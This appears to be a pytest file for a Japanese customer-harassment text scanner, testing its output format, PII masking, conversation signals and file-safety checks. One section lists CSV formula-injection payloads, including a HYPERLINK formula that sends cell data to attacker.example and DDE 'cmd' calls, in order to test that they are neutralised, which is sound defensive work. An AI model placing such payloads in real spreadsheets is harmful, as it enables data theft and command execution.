"""The output contract of scanning: one result per input record, in order, with the documented fields."""

import csv
import os
import json

import pytest

from kasuhara_nlp.classifier import KasuharaClassifier
from kasuhara_nlp.labels import CATEGORIES
from kasuhara_nlp.records import SCHEMA_VERSION, STATUSES
from kasuhara_nlp.scan import CSV_COLUMNS, ScanOptions, run_scan, scan, scan_records

CONTRACT_FIELDS = {"id", "kind", "status", "reason", "flagged", "labels", "scores", "severity", "evidence",
                   "text", "model", "model_version", "schema_version"}


@pytest.fixture(scope="module")
def clf(baseline_dir):
    # Thresholds tuned on the tiny dev set sit just below its (memorised) positives; use 0.5.
    return KasuharaClassifier.from_pretrained(baseline_dir, thresholds={c: 0.5 for c in CATEGORIES})


def _rows(tmp_path):
    p = tmp_path / "in.jsonl"
    rows = [
        {"id": "a", "text": "土下座して謝れ。お前は本当に無能だな。"},
        {"id": "b", "text": "商品が届きません。確認してください。"},
        {"id": "c", "text": ""},
        {"id": "d", "text": 12345},
        {"id": "e", "text": "連絡先は taro@example.com、090-1234-5678です。土下座して謝れ。"},
    ]
    p.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows) + "{broken json\n",
                 encoding="utf-8")
    return p


def test_one_result_per_record_in_order(tmp_path, clf):
    results = list(scan([str(_rows(tmp_path))], clf))
    assert [r["id"] for r in results[:5]] == ["a", "b", "c", "d", "e"]
    assert len(results) == 6
    for r in results:
        assert CONTRACT_FIELDS <= set(r)
        assert r["status"] in STATUSES
        assert r["schema_version"] == SCHEMA_VERSION
        assert r["kind"] == "message"
    ok = [r for r in results if r["status"] == "ok"]
    assert {r["id"] for r in ok} == {"a", "b", "e"}
    for r in ok:
        assert set(r["scores"]) == set(CATEGORIES)
        assert r["flagged"] == bool(r["labels"]) == (r["severity"] >= 1)
        assert r["model"] == "kasuhara-baseline"
    bad = [r for r in results if r["status"] != "ok"]
    assert all(r["reason"] and "in.jsonl" in r["reason"] for r in bad)
    assert any("line 6" in r["reason"] for r in bad)


def test_flagged_message_has_evidence_pointing_into_text(tmp_path, clf):
    a = next(r for r in scan([str(_rows(tmp_path))], clf) if r["id"] == "a")
    assert a["flagged"] and a["evidence"]
    for e in a["evidence"]:
        assert a["text"][e["start"]:e["end"]] == e["text"]
        assert e["label"] in a["labels"]


def test_pii_is_masked_by_default_and_offsets_remapped(tmp_path, clf):
    e = next(r for r in scan([str(_rows(tmp_path))], clf) if r["id"] == "e")
    assert "taro@example.com" not in e["text"] and "090-1234-5678" not in e["text"]
    assert "[メール]" in e["text"] and "[電話]" in e["text"]
    for ev in e["evidence"]:
        assert e["text"][ev["start"]:ev["end"]] == ev["text"]
    raw = next(r for r in scan([str(_rows(tmp_path))], clf, ScanOptions(mask_pii=False)) if r["id"] == "e")
    assert "taro@example.com" in raw["text"]


def test_csv_output_flattens_the_contract(tmp_path, clf):
    out = tmp_path / "out.csv"
    summary = run_scan([str(_rows(tmp_path))], str(out), clf)
    with open(out, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert list(rows[0]) == CSV_COLUMNS
    assert len(rows) == summary.records == 6
    a = rows[0]
    assert a["labels"].split("|") == json.loads(json.dumps(sorted(a["labels"].split("|"), key=CATEGORIES.index)))
    assert float(a["score_demand"]) > 0.5
    assert json.loads(a["evidence"])
    assert summary.by_status["ok"] == 3 and summary.by_status["error"] >= 1


def test_summary_counts(tmp_path, clf):
    summary = run_scan([str(_rows(tmp_path))], str(tmp_path / "o.jsonl"), clf)
    d = summary.to_dict()
    assert d["records"] == 6
    assert sum(d["by_status"].values()) == 6
    assert d["by_format"] == {"jsonl": 6}
    assert d["alerts_per_1000"] == pytest.approx(1000 * d["flagged_messages"] / 3, abs=0.01)


def test_predict_conversation_adds_thread_signals(clf):
    from kasuhara_nlp.records import MessageRecord

    caller_record = MessageRecord(record_id="t3", body_text="返金してください。今すぐ。", text_to_score="返金してください。今すぐ。",
                                  author_role="customer", timestamp_utc="2026-11-03T01:06:00Z")
    # The same request after each of three answers: persistent, so it counts whatever the model says.
    turns = []
    for minute in (0, 1, 2):
        turns += [{"role": "customer", "text": "返金してください。", "timestamp": f"2026-11-03T10:0{minute}:00+09:00"},
                  {"role": "agent", "text": "規定により返金はできかねます。", "timestamp": f"2026-11-03T10:0{minute}:30+09:00"}]
    result = clf.predict_conversation(turns + [caller_record], conversation_id="c1")
    assert result["kind"] == "conversation" and result["id"] == "c1"
    assert [m["status"] for m in result["messages"]] == ["ok", "not_scored"] * 3 + ["ok"]
    assert [s["type"] for s in result["signals"]] == ["repeated_demand"] * 3
    assert "demand" in result["labels"]
    assert caller_record.conversation_id is None  # the caller's record is not changed


@pytest.mark.parametrize("turns, error, words", [
    ("返金しろ", TypeError, "list of turns"),
    (["返金しろ", "まだか"], TypeError, "turn 0 must be a dict"),
    ([{"text": b"\x95\xd4"}], TypeError, "'text' must be a str"),
    ([], ValueError, "at least one turn"),
], ids=["a_string", "strings", "bytes_text", "no_turns"])
def test_predict_conversation_says_what_turns_it_takes(clf, turns, error, words):
    with pytest.raises(error, match=words):
        clf.predict_conversation(turns)


def test_predict_conversation_masks_unless_asked_and_says_when_a_time_is_unreadable(clf):
    turns = [{"role": "customer", "text": "山田様に電話して。090-1234-5678", "timestamp": "2026-13-45 99:99"},
             {"role": "agent", "text": "確認します", "timestamp": "2026-11-03T10:00:00+09:00"}]
    masked, plain = clf.predict_conversation(turns), clf.predict_conversation(turns, mask_pii=False)
    assert "090-1234-5678" not in masked["messages"][0]["text"]
    assert "090-1234-5678" in plain["messages"][0]["text"]
    assert "timestamp-unreadable:timestamp" in masked["messages"][0]["decode_warnings"]
    assert not any(w.startswith("timestamp-unreadable") for w in masked["messages"][1]["decode_warnings"])


def test_a_file_without_a_text_column_does_not_stop_the_run(tmp_path, clf):
    # Three files, the middle one without a text column; the run used to stop with nothing written.
    first, bad, last = tmp_path / "a.csv", tmp_path / "b.csv", tmp_path / "c.jsonl"
    first.write_text("id,本文\n1,返金しろ\n2,まだか\n", encoding="utf-8")
    bad.write_text("id,free_note\n1,こんにちは\n", encoding="utf-8")
    last.write_text('{"id": "j1", "text": "届かない"}\n', encoding="utf-8")
    out = tmp_path / "out.jsonl"
    summary = run_scan([str(first), str(bad), str(last)], str(out), clf, ScanOptions(conversations=False))
    results = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert [(r["id"], r["status"]) for r in results] == [("1", "ok"), ("2", "ok"), ("b.csv:1", "error"), ("j1", "ok")]
    assert "b.csv line 1" in results[2]["reason"] and "--text-field" in results[2]["reason"]
    assert summary.by_status == {"ok": 3, "error": 1}


def test_results_read_before_an_input_fails_are_kept(clf):
    # A reader that raises part-way (a missing path, an unknown encoding) must not take the results
    # already read with it: they are scored and yielded before the error goes on.
    from kasuhara_nlp.errors import InputFormatError
    from kasuhara_nlp.records import MessageRecord

    def records():
        yield MessageRecord(record_id="a", body_text="返金しろ", text_to_score="返金しろ")
        yield MessageRecord(record_id="b", body_text="まだですか", text_to_score="まだですか")
        raise InputFormatError("no such file or folder; check the path", path="missing.csv")

    got = []
    with pytest.raises(InputFormatError):
        for result in scan_records(records(), clf, ScanOptions(batch_size=64)):
            got.append(result)
    assert [r["id"] for r in got] == ["a", "b"] and all(r["status"] == "ok" for r in got)


# -- an output that is one of the inputs must not truncate it -----------------------------------------------
def _same_file_layouts(tmp_path):
    """(inputs, output) pairs where writing the output would destroy an input before it is read."""
    inbox = tmp_path / "inbox.csv"
    inbox.write_text("id,text\n1,商品が届きません\n2,返金してください\n", encoding="utf-8")
    msgs = tmp_path / "msgs.jsonl"
    msgs.write_text('{"id": "a", "text": "届かない"}\n', encoding="utf-8")
    folder = tmp_path / "exports"
    (folder / "day1").mkdir(parents=True)
    (folder / "day1" / "x.jsonl").write_text('{"id": "f", "text": "届かない"}\n', encoding="utf-8")
    (tmp_path / "link.csv").symlink_to(inbox)
    os.link(msgs, tmp_path / "hard.jsonl")
    return {
        "same csv": ([inbox], inbox),
        "same jsonl": ([msgs], msgs),
        "same file spelt differently": ([inbox], tmp_path / "exports" / ".." / "inbox.csv"),
        "symlink to the input": ([inbox], tmp_path / "link.csv"),
        "hard link to the input": ([msgs], tmp_path / "hard.jsonl"),
        "second of several inputs": ([inbox, msgs], msgs),
        "inside an input folder": ([folder], folder / "results.jsonl"),
        "deep inside an input folder": ([inbox, folder], folder / "day1" / "results.csv"),
    }


SAME_FILE_CASES = ["same csv", "same jsonl", "same file spelt differently", "symlink to the input",
                   "hard link to the input", "second of several inputs", "inside an input folder",
                   "deep inside an input folder"]


@pytest.mark.parametrize("case", SAME_FILE_CASES)
def test_an_output_that_is_an_input_is_refused_before_anything_is_written(tmp_path, clf, case):
    from kasuhara_nlp.errors import ConfigError

    inputs, out = _same_file_layouts(tmp_path)[case]
    before = {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()}
    with pytest.raises(ConfigError, match="-o"):
        run_scan([str(p) for p in inputs], str(out), clf)
    after = {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()}
    assert after == before  # no input truncated, no output (or .partial file) created


def test_a_run_that_stops_part_way_leaves_the_earlier_results_in_place(tmp_path, clf):
    from kasuhara_nlp.errors import InputFormatError

    good = tmp_path / "a.jsonl"
    good.write_text('{"id": "a", "text": "届かない"}\n{"id": "b", "text": "返金してください"}\n',
                    encoding="utf-8")
    out = tmp_path / "results.jsonl"
    out.write_text('{"id": "earlier"}\n', encoding="utf-8")
    # A missing path is an error record and the run goes on; an encoding Python does not know stops it when the
    # first CSV is reached (the JSONL before it does not use the option).
    later = tmp_path / "b.csv"
    later.write_text("id,text\nc,届かない\n", encoding="utf-8")
    with pytest.raises(InputFormatError):
        run_scan([str(good), str(later)], str(out), clf, ScanOptions(encoding="no-such-codec"))
    assert out.read_text(encoding="utf-8") == '{"id": "earlier"}\n'
    # What was scored before the stop is kept beside it, under a name no one takes for finished results.
    partial = [json.loads(line) for line in (tmp_path / "results.jsonl.partial").read_text("utf-8").splitlines()]
    assert [r["id"] for r in partial] == ["a", "b"]
    run_scan([str(good)], str(out), clf)
    assert [json.loads(line)["id"] for line in out.read_text("utf-8").splitlines()] == ["a", "b"]
    assert not (tmp_path / "results.jsonl.partial").exists()


# -- CSV cells that Excel would run as formulas -------------------------------------------------------------
FORMULA_CELLS = [  # (value written, cell read back with the csv module)
    ('=HYPERLINK("http://attacker.example/?"&M2,"詳細はこちら")',
     '\'=HYPERLINK("http://attacker.example/?"&M2,"詳細はこちら")'),
    ("=cmd|'/c calc'!A1", "'=cmd|'/c calc'!A1"),
    ("+81 90 0000 0000+cmd", "'+81 90 0000 0000+cmd"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|'/c calc'!A1", "'@SUM(1+1)*cmd|'/c calc'!A1"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("＝1+1", "'＝1+1"),
    ("'quoted already", "''quoted already"),  # so that dropping one leading ' always restores the value
    ("-12", "-12"),  # a number stays a number
    ("+3.5", "+3.5"),
    ("普通の本文 =1+1", "普通の本文 =1+1"),
    ("", ""),
]


@pytest.mark.parametrize("column", ["id", "reason", "text", "staff_name", "source_file", "channel",
                                    "message_ids"])
@pytest.mark.parametrize("value, cell", FORMULA_CELLS)
def test_csv_text_cells_cannot_start_a_formula(tmp_path, column, value, cell):
    from kasuhara_nlp.scan import ResultWriter
    from kasuhara_nlp.scan_output import restore_cell

    result = {"id": "r1", "kind": "message", "status": "ok", "flagged": False, "labels": [], "severity": 0,
              "scores": {c: 0.25 for c in CATEGORIES}, "evidence": [], "text": "本文", "sequence": 3}
    result[column] = [value] if column == "message_ids" else value
    out = tmp_path / "out.csv"
    with ResultWriter(str(out)) as w:
        w.write(result)
    with open(out, encoding="utf-8-sig", newline="") as f:
        row = next(csv.DictReader(f))
    assert row[column] == cell
    assert restore_cell(row[column]) == value
    # Numbers are never prefixed: Excel must still read them as numbers.
    assert row["score_abuse"] == "0.25" and row["severity"] == "0" and row["sequence"] == "3"


def test_scanned_csv_has_no_formula_cells(tmp_path, clf):
    src = tmp_path / "in.jsonl"
    src.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in [
        {"id": "x1", "text": '=HYPERLINK("http://attacker.example/?"&M2,"詳細はこちら")'},
        {"id": "=cmd|'/c calc'!A1", "text": "@SUM(1+1)*cmd|'/c calc'!A1"},
        {"id": "-7", "text": "-- 商品が届きません"},
    ]), encoding="utf-8")
    out = tmp_path / "out.csv"
    run_scan([str(src)], str(out), clf, ScanOptions(mask_pii=False))
    with open(out, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [(r["id"], r["text"][:5]) for r in rows] == [
        ("x1", "'=HYP"), ("'=cmd|'/c calc'!A1", "'@SUM"), ("-7", "'-- 商")]
    assert all(float(r["score_abuse"]) >= 0 for r in rows)


# -- why a conversation was flagged, in the CSV too ---------------------------------------------------------
def test_csv_signals_and_message_ids_columns_are_appended(tmp_path):
    from kasuhara_nlp.scan import ResultWriter

    conversation = {
        "id": "T-1", "kind": "conversation", "status": "ok", "flagged": True, "labels": ["restraint"],
        "severity": 1, "scores": {c: 0.0 for c in CATEGORIES}, "evidence": [], "message_ids": ["1", "2", "3"],
        "signals": [
            {"type": "long_duration", "category": "restraint", "score": 0.6, "counted": True,
             "detail": "conversation lasted 95 min (limit 60)", "message_ids": ["1", "3"], "minutes": 95.0},
            {"type": "out_of_hours", "category": "restraint", "score": 0.6, "counted": False,
             "detail": "3 customer messages outside business hours, 0 of them flagged", "message_ids": ["1"]},
        ]}
    message = {"id": "1", "kind": "message", "status": "ok", "labels": [], "scores": {}, "evidence": []}
    out = tmp_path / "out.csv"
    with ResultWriter(str(out)) as w:
        w.write(message)
        w.write(conversation)
    with open(out, encoding="utf-8-sig", newline="") as f:
        reader = csv.DictReader(f)
        rows = list(reader)
    # Appended, so consumers that read the earlier columns by position keep working.
    assert reader.fieldnames[-2:] == ["signals", "message_ids"] and CSV_COLUMNS[-2:] == ["signals", "message_ids"]
    assert rows[0]["signals"] == rows[0]["message_ids"] == ""
    assert rows[1]["message_ids"] == "1|2|3"
    assert rows[1]["signals"] == (
        "long_duration (restraint, counted): conversation lasted 95 min (limit 60) [1|3]; "
        "out_of_hours (restraint, not counted): 3 customer messages outside business hours, 0 of them flagged [1]")


def test_scanned_csv_explains_a_conversation_flagged_by_a_signal_alone(tmp_path, clf):
    # A polite chat the customer keeps going for 90 minutes, a line every 10: nothing in the text, only the time.
    src = tmp_path / "chat.csv"
    lines = ["id,ticket_id,timestamp,role,channel,text"]
    for i, minutes in enumerate(range(0, 91, 10)):
        at = f"2026-11-02 {10 + minutes // 60}:{minutes % 60:02d}"
        lines += [f"c{i},T-1,{at},customer,chat,在庫を確認していただけますか。",
                  f"a{i},T-1,{at}:30,agent,chat,確認いたします。"]
    src.write_text("\n".join(lines) + "\n", encoding="utf-8")
    run_scan([str(src)], str(tmp_path / "out.jsonl"), clf)
    run_scan([str(src)], str(tmp_path / "out.csv"), clf)
    jsonl = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text("utf-8").splitlines()]
    with open(tmp_path / "out.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    conv, row = jsonl[-1], rows[-1]
    assert conv["kind"] == row["kind"] == "conversation" and conv["signals"]
    assert row["message_ids"] == "|".join(conv["message_ids"])
    for sig in conv["signals"]:
        assert sig["type"] in row["signals"] and sig["detail"] in row["signals"]
    assert ("not counted" in row["signals"]) == any(not s["counted"] for s in conv["signals"])


# (case id, results added, the text `kasuhara scan` prints)
SUMMARY_TEXTS = [
    ("nothing_read", [], "records: 0  \nby format: \nby category: abuse 0, demand 0, restraint 0, other_harassment 0\n"
                         "flagged messages: 0  alerts per 1,000 scored: 0.0  conversations: 0 (flagged 0)"),
    ("statuses_and_formats_sorted_categories_in_order",
     [{"status": "ok", "flagged": True, "labels": ["restraint", "abuse"], "source_format": "mbox"},
      {"status": "ok", "labels": [], "source_format": "csv"},
      {"status": "error", "source_format": None},
      {"status": "ok", "flagged": True, "labels": ["abuse"], "source_format": "csv"},
      {"kind": "conversation", "labels": ["restraint"]}, {"kind": "conversation", "labels": []}],
     "records: 4  error: 1  ok: 3\nby format: csv 2, mbox 1, unknown 1\n"
     "by category: abuse 2, demand 0, restraint 1, other_harassment 0\n"
     "flagged messages: 2  alerts per 1,000 scored: 666.67  conversations: 2 (flagged 1)"),
]


@pytest.mark.parametrize("results, expected", [c[1:] for c in SUMMARY_TEXTS], ids=[c[0] for c in SUMMARY_TEXTS])
def test_summary_text_is_what_the_cli_prints(results, expected):
    from kasuhara_nlp.scan import ScanSummary

    summary = ScanSummary()
    for result in results:
        summary.add(result)
    assert summary.text() == expected


def test_scan_cli_prints_the_summary_text(tmp_path, baseline_dir, capsys):
    from kasuhara_nlp.cli import main
    from kasuhara_nlp.scan import ScanSummary

    out = tmp_path / "o.jsonl"
    assert main(["scan", str(_rows(tmp_path)), "-o", str(out), "--model", str(baseline_dir)]) == 1  # broken lines
    summary = ScanSummary()
    for line in out.read_text(encoding="utf-8").splitlines():
        summary.add(json.loads(line))
    assert capsys.readouterr().err.endswith("\n" + summary.text() + "\n")


@pytest.mark.parametrize("items, expected", [
    ([], {}),
    (["佐藤=agent", "田中=customer"], {"佐藤": "agent", "田中": "customer"}),
    (["佐藤=agent", "佐藤=customer"], {"佐藤": "customer"}),  # the later value wins
    (["A=B=C"], {"A": "B=C"}),  # only the first = separates: a role is never cut
    (["=agent"], {"": "agent"}),
])
def test_parse_name_roles(items, expected):
    from kasuhara_nlp.scan import parse_name_roles

    assert parse_name_roles(items) == expected


@pytest.mark.parametrize("item", ["佐藤", "佐藤:agent", ""])
def test_parse_name_roles_refuses_a_value_without_equals(item):
    from kasuhara_nlp.errors import ConfigError
    from kasuhara_nlp.scan import parse_name_roles

    with pytest.raises(ConfigError, match=f"NAME=ROLE .*got {item!r}"):
        parse_name_roles(["a=agent", item])


@pytest.mark.parametrize("out, routable", [
    ("results.jsonl", True), ("out/r.json", True), ("-", False), ("results.csv", False), ("R.CSV", False),
    ("csv", True),  # a file named csv, not a .csv file
])
def test_check_route_output(out, routable):
    from kasuhara_nlp.errors import ConfigError
    from kasuhara_nlp.scan import check_route_output

    if routable:
        check_route_output(out)
    else:
        with pytest.raises(ConfigError, match="--route needs a JSONL output file"):
            check_route_output(out)


def test_scan_doctests():
    # The examples of ScanSummary.text, parse_name_roles and check_route_output are their documentation.
    import doctest

    import kasuhara_nlp.scan

    result = doctest.testmod(kasuhara_nlp.scan)
    assert result.failed == 0 and result.attempted >= 10


# -- -o onto a pipe or a link: written through, never replaced by a file -------------------------------------
def _read_fifo_in_background(fifo):
    import threading

    got = {}
    reader = threading.Thread(target=lambda: got.setdefault("text", fifo.read_text("utf-8")), daemon=True)
    reader.start()
    return reader, got


@pytest.mark.parametrize("writer", ["scan", "training"])
def test_an_output_that_is_a_pipe_stays_a_pipe(tmp_path, clf, writer):
    import stat

    from kasuhara_nlp.feedback import write_training

    fifo = tmp_path / "out.jsonl"
    os.mkfifo(fifo)
    reader, got = _read_fifo_in_background(fifo)
    if writer == "scan":
        run_scan([str(_rows(tmp_path))], str(fifo), clf)
    else:
        write_training([{"id": "a", "text": "返金しろ", "labels": ["demand"]}], fifo)
    reader.join(timeout=30)
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)  # the old code renamed a file over it
    assert not (tmp_path / "out.jsonl.partial").exists()
    assert [json.loads(line)["id"] for line in got["text"].splitlines()][:1] == ["a"]


@pytest.mark.parametrize("writer", ["scan", "training"])
def test_an_output_that_is_a_link_replaces_the_file_it_points_to(tmp_path, clf, writer):
    from kasuhara_nlp.feedback import write_training

    shared = tmp_path / "shared"
    shared.mkdir()
    target = shared / "results.jsonl"
    target.write_text('{"id": "earlier"}\n', encoding="utf-8")
    link = tmp_path / "results.jsonl"
    link.symlink_to(target)
    if writer == "scan":
        run_scan([str(_rows(tmp_path))], str(link), clf)
    else:
        write_training([{"id": "a", "text": "返金しろ", "labels": ["demand"]}], link)
    assert link.is_symlink() and link.resolve() == target
    assert json.loads(target.read_text("utf-8").splitlines()[0])["id"] == "a"
    assert sorted(p.name for p in shared.iterdir()) == ["results.jsonl"]
